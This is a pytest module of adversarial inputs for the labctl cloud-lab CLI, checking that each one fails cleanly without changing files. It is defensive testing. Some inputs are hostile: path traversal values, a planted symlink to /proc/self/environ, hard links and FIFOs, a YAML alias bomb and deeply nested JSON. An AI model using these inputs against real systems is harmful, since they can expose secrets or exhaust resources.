"""The bad-input corpus: every command and every kind of file the tool reads, fed what an
adversarial newcomer would type. Each case must end with exit code 2, one clear line on stderr
(naming the file, key or option, and what is allowed), no traceback, and no file changed, in
the sandbox or in the checkout.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest
import yaml

from cloudlabs import REPO_ROOT, content, pricing, profiles

from labctl.cli import runners
from labctl.cli.main import main
from labctl.offline.render import ENVIRONMENTS

from .fakerunner import FakeRunner

# Tool caches and installs, and the built site: hashing tools/mermaid's 150 MB node_modules took each case 0.3 s.
SKIP_DIRS = {"venv", ".git", "__pycache__", ".pytest_cache", ".hypothesis", "out", ".cloudlabs", ".pulumi-state", ".mypy_cache",
             ".ruff_cache", "node_modules", "site"}


def tree_state(root: Path) -> dict[str, str]:
    """Every file under root (but tool caches) -> a hash of its bytes: what "nothing changed" means."""
    state = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in SKIP_DIRS and not d.startswith(".venv") and not d.endswith(".egg-info")]
        for name in files:
            path = Path(folder) / name
            if path.is_fifo():
                state[str(path)] = "fifo"
                continue
            state[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "other"
    return state


@dataclass
class Sandbox:
    root: Path

    @property
    def env(self) -> Path:
        return self.root / "environments"

    def write(self, relative: str, text: str | bytes) -> Path:
        path = self.root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text)
        return path

    def edit(self, relative: str, old: str, new: str) -> None:
        path = self.root / relative
        text = path.read_text()
        assert old in text, f"{old!r} not in {relative}"
        path.write_text(text.replace(old, new, 1))

    def stack_config(self, stack: str, **changes) -> None:
        path = self.env / f"Pulumi.{stack}.yaml"
        doc = yaml.safe_load(path.read_text())
        for key, value in changes.items():
            doc["config"][key.replace("__", ":")] = value
        path.write_text(yaml.safe_dump(doc))


@pytest.fixture
def sandbox(tmp_path, monkeypatch) -> Sandbox:
    box = Sandbox(tmp_path)
    shutil.copytree(ENVIRONMENTS, box.env)
    shutil.copytree(REPO_ROOT / "profiles", tmp_path / "profiles")
    shutil.copytree(REPO_ROOT / "pricing", tmp_path / "pricing")
    monkeypatch.setattr(profiles, "PROFILES_DIR", tmp_path / "profiles")
    monkeypatch.setattr(pricing, "PRICES_FILE", tmp_path / "pricing" / "aws-on-demand.yaml")
    monkeypatch.setattr(runners, "STATE_DIR", tmp_path / "state")
    shutil.copytree(content.LABS_DIR, tmp_path / "labs")  # lab content is read from (and planted in) a copy
    monkeypatch.setattr(content, "LABS_DIR", tmp_path / "labs")
    monkeypatch.setenv("CLOUDLABS_CACHE_DIR", str(tmp_path / "cache"))
    runner = FakeRunner()
    monkeypatch.setattr(runners, "make_pulumi_runner", lambda args, owners: runner)
    monkeypatch.setattr(runners, "make_power_runner", lambda args, owners: runner)
    box.runner = runner  # type: ignore[attr-defined]
    return box


@dataclass(frozen=True)
class Case:
    id: str
    argv: tuple[str, ...]
    message: str  # a regular expression the one line must match
    prepare: Callable[[Sandbox], None] | None = None
    lines: int = 1


def case(id: str, argv: str, message: str, prepare: Callable[[Sandbox], None] | None = None, lines: int = 1) -> Case:
    return Case(id, tuple(argv.split(" ")) if argv else (), message, prepare, lines)


def cohort_edit(old: str, new: str, cohort: str = "demo") -> Callable[[Sandbox], None]:
    return lambda box: box.edit(f"environments/{cohort}.yaml", old, new)


def cohort_text(text: str | bytes, cohort: str = "demo") -> Callable[[Sandbox], None]:
    return lambda box: box.write(f"environments/{cohort}.yaml", text)


def stack_edit(stack: str = "demo-s01", **changes) -> Callable[[Sandbox], None]:
    return lambda box: box.stack_config(stack, **changes)


def stack_text(text: str | bytes, stack: str = "demo-s01") -> Callable[[Sandbox], None]:
    return lambda box: box.write(f"environments/Pulumi.{stack}.yaml", text)


def profile_edit(old: str, new: str) -> Callable[[Sandbox], None]:
    return lambda box: box.edit("profiles/learner-lab.yaml", old, new)


def price_edit(old: str, new: str) -> Callable[[Sandbox], None]:
    return lambda box: box.edit("pricing/aws-on-demand.yaml", old, new, )


def seats_edit(old: str, new: str) -> Callable[[Sandbox], None]:
    return lambda box: box.edit("environments/demo.seats.yaml", old, new)


def cohort_in_region(region: str, cohort: str = "demo") -> Callable[[Sandbox], None]:
    """The cohort moved to another region, its stack files synced with it."""
    def prepare(box: Sandbox) -> None:
        box.edit(f"environments/{cohort}.yaml", "region: us-east-1", f"region: {region}")
        for path in box.env.glob(f"Pulumi.{cohort}-*.yaml"):
            if yaml.safe_load(path.read_text())["config"]["cloudlabs:cohort"] == cohort:
                box.stack_config(path.name[len("Pulumi."):-len(".yaml")], aws__region=region)
    return prepare


def snapshot(name: str, text: str | bytes) -> Callable[[Sandbox], None]:
    def prepare(box: Sandbox) -> None:
        (box.root / "base").mkdir(exist_ok=True)
        box.write(f"head/{name}", text)
    return prepare


ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(8))
GOOD_RESOURCE = ('{"urn": "urn:pulumi:s::p::t::n", "type": "t", "name": "n", "parent": null, "custom": true, "id": "i", '
                 '"inputs": {}, "outputs": {}, "dependencies": [], "propertyDependencies": {}}')


def planted(relative: str, kind: str = "link", target: str = "/proc/self/environ") -> Callable[[Sandbox], None]:
    """Something that is not a regular file of labs/ at labs/<relative> (the sandbox's copy)."""
    def prepare(box: Sandbox) -> None:
        at = box.root / "labs" / relative
        if at.exists():
            at.unlink()
        if kind == "link":
            at.symlink_to(target)
        elif kind == "fifo":
            os.mkfifo(at)
        else:
            box.write("outside.txt", "a file outside labs/")
            os.link(box.root / "outside.txt", at)
    return prepare


def graph_doc(resource: str = GOOD_RESOURCE, stack: str = "demo-s01") -> str:
    return ('{"format": "cloudlabs.graph/v1", "stack": "%s", "project": "cloudlabs", "settings": {}, "outputs": {}, '
            '"resources": [%s]}' % (stack, resource))


E = "{env}"  # replaced by the sandbox's environments directory
CASES = [
    # --- argument parsing: numbers, names, options -----------------------------------------------
    case("plan hours nan", "plan demo --hours nan", r"argument --hours: nan is not allowed; allowed: a number of hours more than 0"),
    case("plan hours inf", "plan demo --hours inf", r"argument --hours: inf is not allowed"),
    case("plan hours negative", "plan demo --hours -3", r"argument --hours: -3 is not allowed"),
    case("plan hours zero", "plan demo --hours 0", r"argument --hours: 0 is not allowed"),
    case("plan hours text", "plan demo --hours three", r"argument --hours: 'three' is not a number of hours"),
    case("plan hours a millennium", "plan demo --hours 1e7", r"argument --hours: 1e7 is not allowed"),
    case("plan jobs zero", "plan demo --jobs 0", r"argument --jobs/-j: 0 is out of range; allowed: 1 to 64"),
    case("plan jobs negative", "plan demo -j -2", r"argument --jobs/-j: -2 is out of range"),
    case("plan jobs huge", "plan demo --jobs 100000", r"argument --jobs/-j: 100000 is out of range"),
    case("plan jobs float", "plan demo --jobs 2.5", r"argument --jobs/-j: '2.5' is not a whole number"),
    case("plan unknown option", "plan demo --colour", r"labctl: error: unrecognized arguments: --colour"),
    case("cost hours nan", "cost demo --hours NaN", r"argument --hours: NaN is not allowed"),
    case("check jobs text", "check demo --jobs many", r"argument --jobs/-j: 'many' is not a whole number"),
    case("unknown command", "deploy demo", r"argument command: invalid choice: 'deploy'"),
    case("no command", "", r"the following arguments are required: command"),
    case("reach port zero", "reach demo-s01 internet VM1 --port 0", r"argument --port: 0 is out of range; allowed: 1 to 65535"),
    case("reach port too high", "reach demo-s01 internet VM1 --port 70000", r"argument --port: 70000 is out of range"),
    case("reach port text", "reach demo-s01 internet VM1 --port http", r"argument --port: 'http' is not a whole number"),
    case("reach protocol", "reach demo-s01 internet VM1 --port 80 --protocol sctp", r"argument --protocol: invalid choice: 'sctp'"),
    case("reach icmp with port", "reach demo-s01 internet VM1 --port 80 --protocol icmp", r"--port is required for tcp/udp and not allowed for icmp"),
    case("reach tcp without port", "reach demo-s01 internet VM1", r"--port is required for tcp/udp"),
    case("reach a cohort", f"reach demo internet VM1 --port 80 --environments {E}", r"demo: selects 3 stacks; allowed: one stack"),
    case("reach unknown stack", f"reach demo-s99 internet VM1 --port 80 --environments {E}", r"demo-s99: no such stack, cohort"),
    case("diagram two stacks", f"diagram demo-s01 demo-s02 --environments {E}", r"2 stacks given \(demo-s01 demo-s02\); allowed: one stack"),
    case("diagram a cohort", f"diagram demo --environments {E}", r"demo: selects 3 stacks; allowed: one stack"),
    case("diagram unknown stack", f"diagram demo-s99 --environments {E}", r"demo-s99: no such stack, cohort"),
    case("diagram over its stack file", f"diagram demo-s01 --environments {E} --output {E}/Pulumi.demo-s01.yaml",
         r"--output: .*Pulumi.demo-s01.yaml is the stack file of demo-s01, which labctl reads"),
    case("expired bad date", "expired demo --today 2026-13-01", r"argument --today: '2026-13-01' is not a date; allowed: YYYY-MM-DD"),
    case("expired text date", "expired demo --today tomorrow", r"argument --today: 'tomorrow' is not a date"),
    case("up parallel zero", "up demo --parallel 0", r"argument --parallel: 0 is out of range; allowed: 1 to 64"),
    case("up parallel text", "up demo --parallel all", r"argument --parallel: 'all' is not a whole number"),
    case("destroy retries negative", "destroy demo --retries -1", r"argument --retries: -1 is out of range; allowed: 0 to 10"),
    case("destroy retries huge", "destroy demo --retries 1000", r"argument --retries: 1000 is out of range"),
    case("stop parallel huge", "stop demo --parallel 1000", r"argument --parallel: 1000 is out of range"),
    case("start on-interrupt", "start demo --on-interrupt ignore", r"argument --on-interrupt: invalid choice: 'ignore'"),
    case("sweep cohort path", "sweep ../../etc", r"argument cohort: '../../etc' is not a cohort name"),
    case("grade endpoint not local", "grade demo --endpoint-url http://10.0.0.5:5000",
         r"'http://10.0.0.5:5000' is not allowed; allowed: http://127.0.0.1:PORT"),
    case("grade unknown stage", "grade demo --stage finished", r"argument --stage: invalid choice: 'finished'"),
    case("grade unknown student", "grade demo --students s99", r"s99"),
    case("drift empty students", "drift demo --students ,", r"--students: ',' selects nobody"),
    case("sandbox port out of range", "sandbox serve --port 70000", r"argument --port"),
    case("sweep cohort empty", "sweep  --region us-east-1", r"argument cohort: '' is not a cohort name"),
    case("sweep cohort capitals", "sweep Demo", r"argument cohort: 'Demo' is not a cohort name"),
    case("labs extra argument", "labs demo", r"unrecognized arguments: demo"),
    # --- selection: targets and --students ----------------------------------------------------------
    case("destroy students empty", f"destroy demo --students  --environments {E}", r"--students: '' selects nobody"),
    case("destroy students blank list", f"destroy demo --students , --environments {E}", r"--students: ',' selects nobody"),
    case("up students empty item", f"up demo --students s01,,s02 --environments {E}", r"--students: 's01,,s02' has an empty id between commas"),
    case("up students trailing comma", f"up demo --students s01, --environments {E}", r"has an empty id between commas"),
    case("stop students path", f"stop demo --students ../s01 --environments {E}", r"--students: '../s01' is not allowed; allowed: student ids"),
    case("start students unknown", f"start demo --students s09 --environments {E}", r"--students: s09 not among the selected stacks"),
    case("preview students other cohort", f"preview demo --students n01 --environments {E}", r"--students: n01 not among the selected stacks"),
    case("refresh no target", f"refresh --environments {E}", r"refresh: name a cohort or stacks"),
    case("destroy no target", f"destroy --environments {E}", r"destroy: name a cohort or stacks"),
    case("destroy empty target", f"destroy  --environments {E}", r"an empty target selects nothing"),
    case("plan empty target", f"plan  --environments {E}", r"an empty target selects nothing"),
    case("plan unknown target", f"plan nobody --environments {E}", r"nobody: no such stack, cohort, file or directory"),
    case("plan environments missing", "plan demo --environments /nonexistent-dir", r"--environments: /nonexistent-dir is not a directory"),
    case("plan empty directory", "plan {root}/empty", r"no stack files \(Pulumi.<stack>.yaml\) in this directory",
         lambda box: (box.root / "empty").mkdir()),
    case("plan cohort without stack files", f"plan demo --environments {E}", r"stack files missing \(Pulumi.demo-s02.yaml\); run `labctl sync demo` first",
         lambda box: (box.env / "Pulumi.demo-s02.yaml").unlink()),
    case("expired students unknown", f"expired demo --environments {E} --students x", r"unrecognized arguments: --students x"),
    case("probe attempts zero", f"probe demo --attempts 0 --environments {E}", r"argument --attempts: 0 is out of range"),
    case("probe outputs not JSON", f"probe demo --environments {E} --outputs {{root}}/o.json", r"o.json:1: not valid JSON",
         lambda box: box.write("o.json", "{nope")),
    case("probe outputs a list", f"probe demo --environments {E} --outputs {{root}}/o.json",
         r"o.json: not a mapping of stack names to outputs", lambda box: box.write("o.json", "[1, 2]")),
    case("probe outputs a FIFO", f"probe demo --environments {E} --outputs {{root}}/o.json",
         r"o.json: not a regular file", lambda box: os.mkfifo(box.root / "o.json")),
    case("probe students empty", f"probe demo --students  --environments {E}", r"--students: '' selects nobody"),
    # --- values given on the command line: regions, emulator URLs, backends ---------------------------------
    case("sweep region unknown emulated", "sweep demo --region mars-1 --emulate",
         r"argument --region: 'mars-1' is not allowed; allowed: a region of the aws partition \(botocore's partitions.json\), e.g. us-east-1"),
    case("sweep region unknown", "sweep demo --region mars-1", r"argument --region: 'mars-1' is not allowed; allowed: a region of the aws partition"),
    case("sweep region of another partition", "sweep demo --region cn-north-1 --emulate", r"argument --region: 'cn-north-1' is not allowed"),
    case("sweep region a pseudo-region", "sweep demo --region aws-global --emulate", r"argument --region: 'aws-global' is not allowed"),
    case("sweep region capitals", "sweep demo --region US-EAST-1 --emulate", r"argument --region: 'US-EAST-1' is not allowed"),
    case("sweep region empty", "sweep demo --region  --emulate", r"argument --region: '' is not allowed"),
    case("sweep environments missing", "sweep demo --region us-east-1 --emulate --environments /nonexistent-dir",
         r"--environments: /nonexistent-dir is not a directory"),
    case("sweep environments a file", f"sweep demo --emulate --environments {E}/demo.yaml", r"--environments: .*demo.yaml is not a directory"),
    case("sweep cohort without file or region", f"sweep nobody --emulate --environments {E}",
         r"nobody: no cohort file \(.*nobody.yaml\) to take the region from; allowed: a cohort of .*, or --region REGION"),
    case("grade endpoint port zero", "grade demo --endpoint-url http://127.0.0.1:0",
         r"argument --endpoint-url: 'http://127.0.0.1:0' is not allowed; allowed: http://127.0.0.1:PORT, PORT 1 to 65535"),
    case("drift endpoint port too high", "drift demo --endpoint-url http://127.0.0.1:65536", r"'http://127.0.0.1:65536' is not allowed"),
    case("grade endpoint user info", "grade demo --endpoint-url http://user:pw@127.0.0.1:5000", r"'http://user:pw@127.0.0.1:5000' is not allowed"),
    case("drift endpoint path", "drift demo --endpoint-url http://127.0.0.1:5000/api", r"'http://127.0.0.1:5000/api' is not allowed"),
    case("grade endpoint query", "grade demo --endpoint-url http://127.0.0.1:5000/?region=x", r"is not allowed; allowed: http://127.0.0.1:PORT"),
    case("grade endpoint fragment", "grade demo --endpoint-url http://127.0.0.1:5000#x", r"is not allowed; allowed: http://127.0.0.1:PORT"),
    case("grade endpoint https", "grade demo --endpoint-url https://127.0.0.1:5000", r"'https://127.0.0.1:5000' is not allowed"),
    case("grade endpoint localhost", "grade demo --endpoint-url http://localhost:5000", r"'http://localhost:5000' is not allowed"),
    case("grade endpoint no port", "grade demo --endpoint-url http://127.0.0.1", r"'http://127.0.0.1' is not allowed"),
    case("grade endpoint empty", "grade demo --endpoint-url ", r"argument --endpoint-url: '' is not allowed"),
    case("grade endpoint signed port", "grade demo --endpoint-url http://127.0.0.1:+5000", r"'http://127.0.0.1:\+5000' is not allowed"),
    case("grade endpoint nothing answers", f"grade demo --endpoint-url http://127.0.0.1:1 --environments {E}",
         r"--endpoint-url: nothing answers at http://127.0.0.1:1; allowed: the address of a running emulator"),
    case("up backend empty", f"up demo --backend  --environments {E}",
         r"argument --backend: '' is not allowed; allowed: a Pulumi state backend URL: file://PATH, s3://BUCKET"),
    case("up backend typo", "up demo --backend s3:/course-state", r"argument --backend: 's3:/course-state' is not allowed"),
    case("destroy backend other scheme", "destroy demo --backend ftp://state", r"argument --backend: 'ftp://state' is not allowed"),
    case("refresh backend file without path", "refresh demo --backend file://", r"argument --backend: 'file://' is not allowed"),
    # --- contradictions: options that would silently cancel each other or do nothing -------------------------
    case("grade emulate and endpoint", "grade demo --emulate --endpoint-url http://127.0.0.1:5000",
         r"argument --endpoint-url: not allowed with argument --emulate"),
    case("drift endpoint and emulate", "drift demo --endpoint-url http://127.0.0.1:5000 --emulate",
         r"argument --emulate: not allowed with argument --endpoint-url"),
    case("up emulate and backend", "up demo --emulate --backend s3://course-state", r"argument --backend: not allowed with argument --emulate"),
    case("destroy backend and emulate", "destroy demo --backend s3://course-state --emulate",
         r"argument --emulate: not allowed with argument --backend"),
    case("start emulate and no-outputs", f"start demo --emulate --no-outputs --environments {E}",
         r"argument --no-outputs: not allowed with argument --emulate"),
    case("plan quiet and details", "plan demo --quiet --details", r"argument --details: not allowed with argument --quiet"),
    case("expired jobs", f"expired demo --jobs 2 --environments {E}", r"unrecognized arguments: --jobs 2"),
    case("expired no-cache", f"expired demo --no-cache --environments {E}", r"unrecognized arguments: --no-cache"),
    case("destroy no-cache", f"destroy demo --no-cache --environments {E}", r"unrecognized arguments: --no-cache"),
    case("stop jobs", f"stop demo -j 4 --environments {E}", r"unrecognized arguments: -j 4"),
    case("grade no-cache", f"grade demo --no-cache --environments {E}", r"unrecognized arguments: --no-cache"),
    case("probe no-cache", f"probe demo --no-cache --environments {E}", r"unrecognized arguments: --no-cache"),
    case("sandbox serve region", "sandbox serve --region mars-1", r"unrecognized arguments: --region mars-1"),
    case("sandbox serve port zero", "sandbox serve --port 0", r"argument --port: 0 is out of range; allowed: 1 to 65535"),
    case("reach from a host to itself", f"reach demo-s02 bastion bastion --port 22 --environments {E}",
         r"src and dst are both 'bastion'; allowed: two different endpoints"),
    case("reach between two outside ends", f"reach demo-s02 admin internet --port 22 --environments {E}",
         r"src 'admin' and dst 'internet' are both outside the stack; allowed: at least one end inside it"),
    case("reach from a range to the IPv6 internet", f"reach demo-s02 cidr:198.51.100.0/24 internet6 --port 443 --environments {E}",
         r"both outside the stack"),
    # --- selections that name nothing, or the same thing twice ----------------------------------------------
    case("plan a stack twice", f"plan demo-s01 demo-s01 --environments {E}",
         r"demo-s01: selects Pulumi.demo-s01.yaml again \(named twice\); allowed: each stack once"),
    case("destroy a cohort and one of its stacks", f"destroy demo demo-s02 --environments {E}",
         r"demo-s02: selects Pulumi.demo-s02.yaml again \(already selected by demo\)"),
    case("grade a stack by file and by name", f"grade {E}/Pulumi.demo-s01.yaml demo-s01 --environments {E}",
         r"demo-s01: selects Pulumi.demo-s01.yaml again \(already selected by .*Pulumi.demo-s01.yaml\)"),
    case("check the directory and a cohort in it", f"check {E} demo --environments {E}", r"demo: selects Pulumi.demo-s01.yaml again"),
    case("up a cohort by name and by file", f"up demo {E}/demo.yaml --environments {E}", r"demo.yaml: selects Pulumi.demo-s01.yaml again"),
    case("stop students twice", f"stop demo --students s01,s01 --environments {E}",
         r"--students: s01 named twice in 's01,s01'; allowed: each student once"),
    case("drift students twice among others", f"drift demo --students s02,s01,s02 --environments {E}", r"--students: s02 named twice"),
    case("grade stage no selected lab has", f"grade demo-s01 --stage images --environments {E}",
         r"--stage: 'images' is a stage of none of the selected labs \(ec2-webserver\); allowed: planned, or one of theirs: solution, starter"),
    case("grade stage ssh of a cohort without it", f"grade demo --stage ssh --environments {E}", r"--stage: 'ssh' is a stage of none of the selected labs"),
    case("probe without the Pulumi CLI", f"probe demo --environments {E}",
         r"probe: the Pulumi CLI is not on PATH; install it \(https://www.pulumi.com/docs/install/\) or pass --outputs FILE",
         lambda box: shutil.which("pulumi") and pytest.skip("the Pulumi CLI is installed here")),
    case("probe outputs of other stacks", f"probe demo --environments {E} --outputs {{root}}/o.json",
         r"o.json: outputs of none of the selected stacks \(other-s01\); allowed: \{stack: outputs\} with stacks such as demo-s01",
         lambda box: box.write("o.json", '{"other-s01": {}}')),
    case("probe outputs empty", f"probe demo --environments {E} --outputs {{root}}/o.json",
         r"o.json: outputs of none of the selected stacks \(no stack at all\)", lambda box: box.write("o.json", "{}")),
    case("sandbox forget a stack not in the store", "sandbox forget demo-s99",
         r"sandbox forget: demo-s99 is not in the store \(.*\); allowed: a stack it holds \(none\)"),
    case("diff a directory with itself", "diff {root}/head {root}/head", r"base and head are both .*head; allowed: two different snapshot directories",
         snapshot("demo-s01.json", graph_doc())),
    case("diff a directory with itself spelled twice", "diff {root}/head {root}/./head/", r"base and head are both",
         snapshot("demo-s01.json", graph_doc())),
    case("diff two empty directories", "diff {root}/base {root}/head", r"base and .*head hold no snapshots \(\*.json\)",
         lambda box: ((box.root / "base").mkdir(), (box.root / "head").mkdir())),
    case("sweep a cohort file path", "sweep environments/demo.yaml", r"argument cohort: 'environments/demo.yaml' is not a cohort name"),
    # --- output paths that are inputs, or each other ------------------------------------------------------
    case("plan json onto its stack file", f"plan demo-s01 --environments {E} --json {E}/Pulumi.demo-s01.yaml",
         r"--json: .*Pulumi.demo-s01.yaml is the stack file of demo-s01, which labctl reads; allowed: a path that is none of its inputs"),
    case("plan json onto the cohort file", f"plan demo --environments {E} --json {E}/demo.yaml", r"--json: .*demo.yaml is the cohort file of demo"),
    case("validate json onto the seat file", f"validate demo --environments {E} --json {E}/demo.seats.yaml",
         r"--json: .*demo.seats.yaml is the seat file of demo"),
    case("validate markdown onto another cohort's file", f"validate demo-s01 --environments {E} --markdown {E}/demo-net.yaml",
         r"--markdown: .*demo-net.yaml is a settings file in the environments directory"),
    case("plan json as a new settings file", f"plan demo-s01 --environments {E} --json {E}/new.yaml", r"is a settings file in the environments directory"),
    case("plan json onto the price table", f"plan demo-s01 --environments {E} --json {{root}}/pricing/aws-on-demand.yaml",
         r"--json: .*aws-on-demand.yaml is the price table"),
    case("grade csv onto the profile", f"grade demo --environments {E} --csv {{root}}/profiles/learner-lab.yaml",
         r"--csv: .*learner-lab.yaml is the profile learner-lab"),
    case("drift json onto a stack file", f"drift demo-s02 --environments {E} --json {E}/Pulumi.demo-s02.yaml",
         r"--json: .*Pulumi.demo-s02.yaml is the stack file of demo-s02"),
    case("plan json through a link to a stack file", f"plan demo-s01 --environments {E} --json {{root}}/link.json",
         r"--json: .*link.json is the stack file of demo-s01", lambda box: (box.root / "link.json").symlink_to(box.env / "Pulumi.demo-s01.yaml")),
    case("plan json named like a stack file", f"plan demo-s01 --environments {E} --json {{root}}/Pulumi.demo-s09.yaml",
         r"--json: .*Pulumi.demo-s09.yaml is a Pulumi stack or project file"),
    case("plan json and snapshots the same", f"plan demo-s01 --environments {E} --snapshots {{root}}/out --json {{root}}/out",
         r"--json: .*out is also where --snapshots writes; allowed: a different path for each output"),
    case("plan json inside snapshots", f"plan demo-s01 --environments {E} --snapshots {{root}}/out --json {{root}}/out/all.json",
         r"--json: .*out/all.json is inside the --snapshots directory .*; allowed: a file outside it"),
    case("validate json and markdown the same", f"validate demo-s01 --environments {E} --json {{root}}/r.txt --markdown {{root}}/r.txt",
         r"--markdown: .*r.txt is also where --json writes"),
    case("validate json and markdown both stdout", f"validate demo-s01 --environments {E} --json - --markdown -",
         r"--json and --markdown: both are '-' \(stdout\).*allowed: '-' for one of them"),
    case("grade csv and json both stdout", f"grade demo --environments {E} --csv - --json -", r"--json and --csv: both are '-' \(stdout\)"),
    case("grade csv and json the same file", f"grade demo --environments {E} --csv {{root}}/g --json {{root}}/g",
         r"--csv: .*/g is also where --json writes"),
    case("diff markdown into base", "diff {root}/base {root}/head --markdown {root}/base/x.json",
         r"--markdown: .*base/x.json is inside the base directory .*base, which labctl reads; allowed: a path outside it",
         snapshot("demo-s01.json", graph_doc())),
    case("diff markdown into head", "diff {root}/base {root}/head --markdown {root}/head/diff.md", r"--markdown: .*head/diff.md is inside the head directory",
         snapshot("demo-s01.json", graph_doc())),
    # --- output paths, checked before any work --------------------------------------------------------
    case("plan json into missing dir", f"plan demo-s01 --environments {E} --json {{root}}/nope/plan.json",
         r"--json: the directory .*/nope does not exist"),
    case("plan json is a directory", f"plan demo-s01 --environments {E} --json {{root}}", r"--json: .* is a directory; allowed: a file path"),
    case("plan snapshots is a file", f"plan demo-s01 --environments {E} --snapshots {{root}}/file.txt",
         r"--snapshots: .*/file.txt exists and is not a directory", lambda box: box.write("file.txt", "x")),
    case("plan snapshots parent missing", f"plan demo-s01 --environments {E} --snapshots {{root}}/a/b/c",
         r"--snapshots: the directory .*/a/b does not exist"),
    case("plan snapshots where nothing can be written", f"plan demo-s01 --environments {E} --snapshots /proc/x",
         r"--snapshots: cannot write in /proc"),
    case("plan json onto a read-only file system entry", f"plan demo-s01 --environments {E} --json /proc/version",
         r"--json: cannot write in /proc"),
    case("diff markdown into missing dir", "diff {root}/base {root}/head --markdown {root}/nope/diff.md",
         r"--markdown: the directory .*/nope does not exist", snapshot("demo-s01.json", graph_doc())),
    # --- snapshot files (diff) ---------------------------------------------------------------------------
    case("diff base missing", "diff {root}/missing {root}/head", r"missing: not a directory of snapshots", snapshot("demo-s01.json", graph_doc())),
    case("diff snapshot not JSON", "diff {root}/base {root}/head", r"head/x.json:1: not valid JSON", snapshot("x.json", "{nope")),
    case("diff snapshot empty", "diff {root}/base {root}/head", r"head/x.json:1: not valid JSON", snapshot("x.json", "")),
    case("diff snapshot other format", "diff {root}/base {root}/head", r"format: 'other' is not allowed; allowed: cloudlabs.graph/v1",
         snapshot("x.json", '{"format": "other"}')),
    case("diff snapshot a list", "diff {root}/base {root}/head", r"format: None is not allowed", snapshot("x.json", "[1, 2]")),
    case("diff snapshot malformed resource", "diff {root}/base {root}/head", r"resources\[0\].custom: \"yes\" is not allowed",
         snapshot("x.json", graph_doc(GOOD_RESOURCE.replace('"custom": true', '"custom": "yes"')))),
    case("diff snapshot resource without urn", "diff {root}/base {root}/head", r"resources\[0\].urn: missing",
         snapshot("x.json", graph_doc(GOOD_RESOURCE.replace('"urn": "urn:pulumi:s::p::t::n", ', '')))),
    case("diff snapshot resource a number", "diff {root}/base {root}/head", r"resources\[0\]: 7 is not allowed",
         snapshot("x.json", graph_doc("7"))),
    case("diff snapshot stack a number", "diff {root}/base {root}/head", r"stack: 5 is not allowed",
         snapshot("x.json", graph_doc().replace('"stack": "demo-s01"', '"stack": 5'))),
    case("diff snapshot NaN", "diff {root}/base {root}/head", r"NaN is not a JSON number",
         snapshot("x.json", graph_doc().replace('"outputs": {}', '"outputs": {"x": NaN}', 1))),
    case("diff snapshot not UTF-8", "diff {root}/base {root}/head", r"head/x.json:1: not UTF-8 text \(byte 0xff\)",
         snapshot("x.json", b'{"format": "\xff"}')),
    case("diff snapshot twice", "diff {root}/base {root}/head", r"stack: 'demo-s01' is not allowed \(also in a.json\)",
         lambda box: (snapshot("a.json", graph_doc())(box), snapshot("b.json", graph_doc())(box))),
    case("diff snapshot deeply nested", "diff {root}/base {root}/head", r"x.json: nested too deeply",
         snapshot("x.json", "[" * 100000 + "]" * 100000)),
    # --- cohort files (sync) -------------------------------------------------------------------------------
    case("sync cohort empty name", f"sync  --environments {E}", r"'' is not allowed; allowed: a cohort name"),
    case("sync cohort path", f"sync ../demo --environments {E}", r"'../demo' is not allowed; allowed: a cohort name"),
    case("sync unknown cohort", f"sync fall99 --environments {E}", r"fall99: no cohort file \(looked for .*/fall99.yaml\)"),
    case("sync a stack file", f"sync {E}/Pulumi.demo-s01.yaml", r"is not allowed; allowed: a cohort name .* or a cohort file"),
    case("sync a seat file", f"sync {E}/demo.seats.yaml", r"is not allowed; allowed: a cohort name .* or a cohort file"),
    case("cohort alias bomb", f"sync demo --check --environments {E}", r"demo.yaml:\d+: (more than 100 aliases|expands to more than)",
         cohort_text(ALIAS_BOMB)),
    case("cohort too large", f"sync demo --environments {E}", r"demo.yaml: \d+ bytes is too large; allowed: a cohort file of at most 1048576 bytes",
         cohort_text("# " + "x" * (1 << 20) + "\n")),
    case("cohort not UTF-8", f"sync demo --environments {E}", r"demo.yaml:2: not UTF-8 text \(byte 0xe9\)",
         cohort_text(b"cohort: demo\nregion: caf\xe9\n")),
    case("cohort NUL", f"sync demo --environments {E}", r"demo.yaml:2: contains a NUL character", cohort_text("cohort: demo\nregion: \0\n")),
    case("cohort a list", f"sync demo --environments {E}", r"demo.yaml:1: \(document\): .* is not allowed; allowed: a mapping", cohort_text("- a\n- b\n")),
    case("cohort empty", f"sync demo --environments {E}", r"demo.yaml:1: \(document\): null is not allowed; allowed: a mapping", cohort_text("")),
    case("cohort YAML syntax", f"sync demo --environments {E}", r"demo.yaml:3: not valid YAML", cohort_text("cohort: demo\nroster:\n  - id: [s01\n")),
    case("cohort a directory", f"sync demo --environments {E}", r"demo.yaml: is a directory; allowed: a cohort file",
         lambda box: ((box.env / "demo.yaml").unlink(), (box.env / "demo.yaml").mkdir())),
    case("cohort duplicate key", f"sync demo --environments {E}", r"demo.yaml:\d+: region: .* \(duplicate key: first at line 4\)",
         cohort_edit("profile: learner-lab", "region: us-west-2")),
    case("cohort unknown key", f"sync demo --environments {E}", r"demo.yaml:\d+: regoin: .* \(unknown key; did you mean region\?\)",
         cohort_edit("profile: learner-lab", "profile: learner-lab\nregoin: x")),
    case("cohort name mismatch", f"sync demo --environments {E}", r"cohort: \"demo2\" is not allowed \(the file is demo.yaml\)",
         cohort_edit("cohort: demo", "cohort: demo2")),
    case("cohort allowOpen yes", f"sync demo --environments {E}", r"allowOpenAdminCidr: \"yes\" is not allowed; allowed: true or false",
         cohort_edit("profile: learner-lab", "profile: learner-lab\nallowOpenAdminCidr: yes")),
    case("cohort allowOpen quoted true", f"sync demo --environments {E}", r"allowOpenAdminCidr: \"true\" is not allowed; allowed: true or false",
         cohort_edit("profile: learner-lab", "profile: learner-lab\nallowOpenAdminCidr: 'true'")),
